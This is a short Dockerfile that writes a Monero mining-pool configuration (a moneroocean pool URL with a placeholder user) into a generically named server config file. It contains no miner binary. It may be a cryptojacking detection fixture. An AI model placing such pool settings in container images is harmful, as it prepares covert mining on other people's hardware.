# syntax=docker/dockerfile:1
FROM debian:12-slim
COPY <<EOF /etc/server/config.json
{"pools": [{"url": "gulf.moneroocean.stream:10128", "user": "x"}]}
EOF
